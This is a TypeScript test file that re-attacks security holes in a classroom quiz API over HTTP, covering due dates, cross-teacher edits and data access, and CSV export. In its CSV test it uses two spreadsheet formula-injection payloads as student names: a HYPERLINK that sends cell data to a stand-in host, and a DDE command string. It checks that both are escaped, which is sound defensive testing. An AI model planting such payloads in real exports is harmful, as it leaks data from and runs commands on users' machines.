// The holes an outside tester found (issue 12), each attacked again over HTTP as they attacked
// it: due dates, another teacher's live set, spreadsheet formulas, other teachers' results and
// imported question files in practice. Answer keys are in answer-key.test.ts.
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createApiTestEnv, serveApi, type ApiTestEnv, type TestServer } from "./testing.ts";
import {
  apiClient,
  closeServer,
  cookieFrom,
  postJson,
  settle,
  signInDemoCallers,
  type ApiClient,
} from "./testing-http.ts";

let env: ApiTestEnv;
let server: TestServer;
let teacher: ApiClient;
let otherTeacher: ApiClient;
let articleId: string;

beforeAll(async () => {
  env = await createApiTestEnv();
  server = await serveApi({
    db: env.db,
    auth: env.auth,
    now: () => env.clock.now,
  });
  ({ teacher, otherTeacher } = await signInDemoCallers(server.url));
  articleId = (await teacher.articles.list.query())[0]!.id;
});
afterAll(async () => {
  await closeServer(server);
  await env?.close();
});

let counter = 0;
/** A new student (signed up over HTTP, in the demo class) and their client. */
async function newStudent(name = "New Student"): Promise<{ client: ApiClient; id: string }> {
  const username = `pupil${++counter}${Date.now() % 10_000}`;
  const response = await postJson(server.url, "/api/auth/sign-up/email", {
    name,
    username,
    password: "learn-something-1",
  });
  expect(response.status, await response.clone().text()).toBe(200);
  const client = apiClient(server.url, cookieFrom(response));
  await client.classes.join.mutate({ joinCode: "NEWS24" });
  return { client, id: (await env.userByUsername(username)).id };
}

/** An assignment of `count` questions in the demo class. */
async function assignment(options: {
  count?: number;
  dueInMs?: number | null;
  feedback?: "immediately" | "after_submit" | "after_due";
}) {
  const set = await teacher.sets.createFromMix.mutate({
    title: `Set ${++counter}`,
    articleId,
    count: options.count ?? 3,
    types: { true_false: options.count ?? 3 },
  });
  const created = await teacher.assignments.create.mutate({
    classId: "seed-class",
    setId: set.id,
    feedback: options.feedback ?? "immediately",
    attemptsAllowed: null,
    dueAt:
      options.dueInMs === null
        ? null
        : new Date(env.clock.now.getTime() + (options.dueInMs ?? 3_600_000)),
  });
  return { ...created, questionIds: set.questionIds };
}

const code = (outcome: Awaited<ReturnType<typeof settle>>) => (outcome.ok ? "data" : outcome.code);

describe("item 4: the due date closes an attempt that was open at the deadline", () => {
  it("refuses new answers after the due date, keeps a retry's result, and finishes at the deadline", async () => {
    const { client: student } = await newStudent();
    const { id: assignmentId, dueAt } = await assignment({
      count: 3,
      dueInMs: 3_600_000,
    });
    const { attemptId } = await student.attempts.start.mutate({ assignmentId });
    const [first, second] = (await student.attempts.get.query({ attemptId })).questions;
    const answer = (questionId: string, key: string) =>
      student.attempts.submitAnswer.mutate({
        attemptId,
        questionId,
        idempotencyKey: key,
        response: { type: "true_false", value: true },
        timeTakenMs: 1000,
      });
    await answer(first!.id, "in-time-0001");
    const saved = env.clock.now;
    try {
      env.clock.now = new Date(dueAt!.getTime() + 60_000);
      const late = await settle(answer(second!.id, "too-late-0001"));
      expect(late.ok ? "data" : [late.code, late.message]).toEqual([
        "PRECONDITION_FAILED",
        "this assignment is closed: its due date has passed",
      ]);
      // A retry of the answer sent in time gets its result again.
      expect(await answer(first!.id, "in-time-0001")).toMatchObject({
        duplicate: true,
      });
      expect(await env.db.answer.count({ where: { attemptId } })).toBe(1);
      const done = await student.attempts.finish.mutate({ attemptId });
      expect(done).toMatchObject({ questionCount: 3 });
      const row = await env.db.attempt.findUniqueOrThrow({
        where: { id: attemptId },
      });
      expect(row).toMatchObject({ status: "submitted", submittedAt: dueAt });
    } finally {
      env.clock.now = saved;
    }
  });
});

describe("item 9: another teacher's live assignment is not rewritten under them", () => {
  it("refuses to edit, disable, reject or swap a question in another teacher's assignment", async () => {
    // The other teacher assigns a set from the demo teacher's article to their own class.
    const cls = await otherTeacher.classes.create.mutate({
      name: "Year 9 Civics",
    });
    const set = await otherTeacher.sets.createFromMix.mutate({
      title: "Borrowed questions",
      articleId,
      count: 2,
      types: { multiple_choice: 2 },
    });
    await otherTeacher.assignments.create.mutate({
      classId: cls.id,
      setId: set.id,
    });
    const questionId = set.questionIds[0]!;
    const before = await env.db.question.findUniqueOrThrow({
      where: { id: questionId },
    });
    const attemptsAt = [
      teacher.articles.editQuestion.mutate({
        questionId,
        prompt: "Which answer is now right?",
      }),
      teacher.articles.setQuestionDisabled.mutate({
        questionId,
        disabled: true,
      }),
      teacher.review.setStatus.mutate({
        questionIds: [questionId],
        status: "rejected",
      }),
      teacher.review.swapDistractor.mutate({
        questionId,
        replace: "x",
        with: "y",
      }),
    ];
    for (const outcome of await Promise.all(attemptsAt.map(settle))) {
      expect(outcome.ok ? "data" : [outcome.code, outcome.message]).toEqual([
        "CONFLICT",
        "another teacher's assignment uses this question: it cannot be changed while that assignment is live",
      ]);
    }
    expect(await env.db.question.findUniqueOrThrow({ where: { id: questionId } })).toEqual(before);
    // A question no one else has assigned is still the editor's to change.
    const free = (await teacher.articles.bank.query({ articleId, type: "true_false" })).find(
      (q) => !set.questionIds.includes(q.id),
    )!;
    expect(
      (
        await teacher.articles.editQuestion.mutate({
          questionId: free.id,
          difficulty: "hard",
        })
      ).question.difficulty,
    ).toBe("hard");
  });
});

describe("item 10: the results CSV opens as text in a spreadsheet", () => {
  it("escapes a student's name that is a formula", async () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const { client, id } = await newStudent();
    const { id: assignmentId } = await assignment({ count: 1, dueInMs: null });
    await client.attempts.start.mutate({ assignmentId });
    await env.db.user.update({ where: { id }, data: { name: evil } });
    const { csv } = await teacher.dashboard.exportCsv.query({
      classId: "seed-class",
    });
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    const names = rows.map((r) => r.student!);
    expect(names).toContain(`'${evil}`);
    expect(names.filter((n) => /^[=+\-@\t\r]/.test(n))).toEqual([]);

    const { csv: roster } = await teacher.classes.addStudents.mutate({
      classId: "seed-class",
      names: ["@SUM(1+1)*cmd|' /C calc'!A0"],
    });
    const rosterRows = parse(roster, { columns: true }) as Record<string, string>[];
    expect(rosterRows[0]!.name).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
  });
});

describe("item 16: a teacher sees only their own classes' results", () => {
  it("leaves the student's attempt in another teacher's class out of progress.student", async () => {
    const { client: student, id: studentId } = await newStudent("Two Classes");
    const view = () => teacher.progress.student.query({ classId: "seed-class", studentId });
    const before = await view();
    // The student also belongs to another teacher's class, and does its assignment.
    const cls = await otherTeacher.classes.create.mutate({
      name: "Year 10 History",
    });
    await student.classes.join.mutate({ joinCode: cls.joinCode });
    const set = await otherTeacher.sets.createFromMix.mutate({
      title: "History check",
      articleId,
      count: 2,
      types: { true_false: 2 },
    });
    const { id: assignmentId } = await otherTeacher.assignments.create.mutate({
      classId: cls.id,
      setId: set.id,
      feedback: "immediately",
    });
    const { attemptId } = await student.attempts.start.mutate({ assignmentId });
    for (const q of (await student.attempts.get.query({ attemptId })).questions) {
      await student.attempts.submitAnswer.mutate({
        attemptId,
        questionId: q.id,
        idempotencyKey: `history-${q.id}`,
        response: { type: "true_false", value: true },
        timeTakenMs: 500,
      });
    }
    await student.attempts.finish.mutate({ attemptId });
    // The other teacher's result shows in the student's own progress …
    const own = await student.progress.mine.query();
    expect(own.weeks.reduce((n, w) => n + w.attempts, 0)).toBe(1);
    // … but not to this teacher.
    const after = await view();
    expect(after.weeks).toEqual(before.weeks);
    expect(after.facts).toEqual(before.facts);
    expect(after.mastery).toEqual(before.mastery);
  });
});

describe("item 3: practice serves only articles a student may practise", () => {
  it("refuses another teacher's imported question file", async () => {
    const imported = await otherTeacher.exchange.importQuestions.mutate({
      filename: "capitals.gift",
      content: "::Capital::Which city is the capital of Pakistan? {=Islamabad ~Karachi ~Lahore}\n",
    });
    const { client } = await newStudent();
    const outcome = await settle(
      client.attempts.practice.mutate({
        articleId: imported.articleId,
        count: 5,
      }),
    );
    expect(code(outcome)).toBe("NOT_FOUND");
    expect((await client.articles.list.query()).map((a) => a.id)).not.toContain(imported.articleId);
  });
});
